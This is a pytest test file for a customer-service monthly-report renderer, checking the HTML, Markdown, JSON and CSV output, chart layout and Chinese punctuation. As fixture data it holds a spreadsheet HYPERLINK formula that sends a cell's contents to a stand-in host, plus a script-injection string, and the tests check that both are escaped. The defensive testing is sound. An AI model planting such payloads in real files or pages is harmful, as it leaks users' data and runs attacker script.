"""Every format renders the hand-checked month: HTML (inline SVG, well-formed, print CSS), Markdown, JSON
against its schema, CSV in long form; text from cases is escaped and spreadsheet formulas neutralised."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import jsonschema
import pytest

from cxcoach.desk import Desk
from cxcoach.playbook import load_playbook
from cxcoach.report import Month, MonthlyReport, build_monthly
from cxcoach.report.charts import bars
from cxcoach.report.render import render
from cxcoach.report.render_json import json_schema, schema_text
from cxcoach.store import Store

from .handchecked import record, t

SCHEMA = Path(__file__).parents[2] / "schemas" / "monthly-report.schema.json"
EVIL_HANDLER = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
EVIL_CAUSE = "<script>alert(1)</script> & </td> $x^2$ | [link](http://evil.example)"


@pytest.fixture(scope="module", params=["en", "zh"])
def report(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> MonthlyReport:
    playbook = load_playbook()
    with Store.open(tmp_path_factory.mktemp("render") / "r.sqlite3") as store:
        desk = Desk(store, playbook, clock=lambda: t(11, 5, 9))
        record(desk)
        desk.open(facts={"severity": "general", "channel": "email", "category": "other",
                         "responsible_owner": EVIL_HANDLER}, at=t(10, 27, 9), external_id="@evil", by="service_advisor")
        desk.update("@evil", stage="resolved", facts={"root_cause": EVIL_CAUSE, "corrective_measures": "-1+1"},
                    at=t(10, 27, 10))
        return build_monthly(store.cases, playbook, Month(2026, 10), now=t(11, 5, 9), locale=request.param)


@pytest.fixture(scope="module")
def page(report: MonthlyReport) -> str:
    return render(report, "html")


def test_html_is_well_formed_with_inline_svg_charts_and_print_css(page: str) -> None:
    root = ET.fromstring(page)  # well-formed XML as well as HTML
    ns = {"h": "http://www.w3.org/1999/xhtml", "s": "http://www.w3.org/2000/svg"}
    svgs = root.findall(".//s:svg", ns)
    assert len(svgs) >= 5 and all(s.find("s:title", ns) is not None for s in svgs)
    assert "@media print" in page and "@page" in page and "break-inside: avoid" in page
    assert "<script" not in page.replace("&lt;script", "") and "http://evil.example" not in page.split("</title>")[0]
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &lt;/td&gt;" in page
    assert "Content-Security-Policy" in page and "<link" not in page and "src=" not in page
    sections = {s.get("id") for s in root.iter("{http://www.w3.org/1999/xhtml}section")}
    assert {"summary", "deadlines", "overdue", "satisfaction", "dimensions", "root_causes", "handlers"} <= sections
    # the overdue table lists C first with its hours past due
    overdue = next(s for s in root.iter("{http://www.w3.org/1999/xhtml}section") if s.get("id") == "overdue")
    first = [td.text for td in overdue.find(".//h:tbody/h:tr", ns)]
    assert first[0] == "C" and first[6] == "462.5"


def test_html_is_the_same_bytes_each_time(report: MonthlyReport, page: str) -> None:
    assert render(report, "html") == page


def test_markdown_tables_escape_case_text(report: MonthlyReport) -> None:
    md = render(report, "md")
    rate = report.figure("resolution_rate")
    assert f"| {rate.label} | 75.0% | 50.0% | +25.0 pp |" in md  # A, D and @evil of A, C, D, @evil
    assert "\\<script\\>alert(1)\\</script\\> & \\</td\\> $x^2$ \\| \\[link\\](http://evil.example)" in md
    assert "<script>" not in md
    assert md.count("\n## ") >= 10


def test_json_validates_against_the_committed_schema(report: MonthlyReport) -> None:
    data = json.loads(render(report, "json"))
    schema = json.loads(SCHEMA.read_text(encoding="utf-8"))
    assert schema == json_schema(), "schemas/monthly-report.schema.json is stale: cxcoach report schema > it"
    assert SCHEMA.read_text(encoding="utf-8") == schema_text()
    jsonschema.Draft202012Validator(schema).validate(data)
    assert data["schema_version"] == 1 and data["month"] == "2026-10"
    assert data["as_of"] == "2026-11-01T00:00:00+08:00"
    assert {f["id"] for f in data["summary"]} >= {"received", "resolution_rate", "resolve_mean_hours"}
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({**data, "summary": [{"id": "x"}]}, schema)


def test_csv_is_tidy_and_neutralises_formulas(report: MonthlyReport) -> None:
    rows = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert list(rows[0]) == ["month", "section", "group", "key", "label", "metric", "value"]
    received = {(r["month"], r["metric"]): r["value"]
                for r in rows if r["section"] == "summary" and r["key"] == "received"}
    assert received == {("2026-10", "value"): "4", ("2026-09", "value"): "2"}
    handler_cells = {r["key"] for r in rows if r["section"] == "handlers"}
    assert "'" + EVIL_HANDLER in handler_cells and EVIL_HANDLER not in handler_cells
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r.values())
    hours = [r for r in rows if r["section"] == "overdue" and r["key"] == "C" and r["metric"] == "hours_past_due"]
    assert [float(r["value"]) for r in hours] == [462.5, 399.0]


def test_chart_labels_are_text_not_markup_or_mathtext() -> None:
    svg = bars("<b>title</b> & co", ["$x^2$", "<i>bold</i>", "普通"], [1, 2, 3], [0, 1, 2], ("2026-10", "2026-09"))
    root = ET.fromstring(svg)
    texts = "".join(root.itertext())
    assert "$x^2$" in texts and "<i>bold</i>" in texts and "普通" in texts
    assert root.find("{http://www.w3.org/2000/svg}title").text == "<b>title</b> & co"


def test_unknown_format_is_refused(report: MonthlyReport) -> None:
    with pytest.raises(ValueError, match="formats: html, md, json, csv"):
        render(report, "pdf")


@pytest.mark.parametrize("labels", [
    ["Product quality / after-sales service", "Billing", "Delivery"],
    ["产品质量 / 售后服务问题的投诉", "账单", "物流配送"],
    ["x"],
])
@pytest.mark.filterwarnings("ignore:Glyph .* missing from font")  # the SVG leaves fonts to the browser
def test_chart_labels_and_titles_fit_inside_the_figure(monkeypatch: pytest.MonkeyPatch, labels: list[str]) -> None:
    """Margins are set from the labels' estimated widths (no layout engine): nothing drawn may fall outside."""
    import matplotlib
    from matplotlib.backends.backend_agg import FigureCanvasAgg

    from cxcoach.report import charts

    drawn = []
    monkeypatch.setattr(charts, "_svg", lambda fig, title: drawn.append(fig) or "")
    charts.bars("Complaints by category", labels, [30.0] * len(labels), [25.0] * len(labels), ("2026-11", "2026-10"))
    charts.bars("On-time rate", labels, [0.5] * len(labels), None, ("2026-11", "2026-10"), percent=True)
    charts.daily("Received and resolved per day", [f"2026-11-{d:02d}" for d in range(1, 31)], [120] * 30,
                 [95] * 30, ("Received", "Resolved"))
    for fig in drawn:
        with matplotlib.rc_context(charts.RC):
            FigureCanvasAgg(fig)
            renderer = fig.canvas.get_renderer()
            box = fig.axes[0].get_tightbbox(renderer)  # ticks, tick labels, title, legend
        # CJK glyphs missing from the test machine's fonts draw narrower than the estimate assumes: a
        # conservative check all the same, the estimate being an overestimate for both scripts
        assert box.x0 >= 0 and box.y0 >= 0 and box.x1 <= fig.bbox.x1 + 0.5 and box.y1 <= fig.bbox.y1 + 0.5, box
        assert fig.axes[0].get_position().width > 0.3  # the bars keep most of the width


def test_chinese_words_use_full_width_punctuation(report: MonthlyReport) -> None:
    """The report's own Chinese words follow the rule playbook text is linted by (L506): （）、，；：."""
    from cxcoach.authoring.lint_rules.text import half_width_spans
    from cxcoach.report.labels import WORDS
    from cxcoach.report.tables import HEADINGS

    for table in (HEADINGS, WORDS):
        assert {k: v for k, v in table["zh"].items() if half_width_spans(v)} == {}
    if report.locale == "zh":
        md = render(report, "md")
        assert "统计期间：2026-10-01 00:00 – 2026-11-01 00:00（Asia/Shanghai）；截至 " in md
        assert "<p class=\"meta\">统计期间：2026-10-01 00:00 – 2026-11-01 00:00（Asia/Shanghai） · 截至" in render(
            report, "html")
    else:
        assert "Period: 2026-10-01 00:00 – 2026-11-01 00:00 (Asia/Shanghai); As of " in render(report, "md")
